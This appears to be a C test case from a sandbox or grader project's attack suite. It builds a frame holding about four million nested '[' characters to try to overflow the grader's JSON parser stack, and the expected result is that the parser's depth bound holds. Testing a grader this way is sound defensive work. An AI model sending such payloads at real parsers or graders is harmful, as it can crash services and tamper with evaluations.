/* aim: overflow the stack of the grader's JSON parser
 * defence: jansson's depth has a bound
 * role: sim
 * stage: started
 * verdict: internal-error
 * exit: 3
 * says: not valid
 * bare: no the grader reads answers the same way without the jail */
#include "tests/attacks/attacker/attack.h"

#include "sandbox/engine/engine_wire.h"

#include <string.h>
#include <unistd.h>

ATTACK {
    enum { DEPTH = 4 << 20 };
    struct text frame = {0};
    char header[16] = "WGF1";
    uint32_t length = DEPTH;
    memcpy(header + 4, &length, sizeof length);
    text_append_bytes(&frame, header, sizeof header);
    text_append_repeated(&frame, '[', DEPTH);
    attack_answer(frame.data, frame.length);
    _exit(0);
}
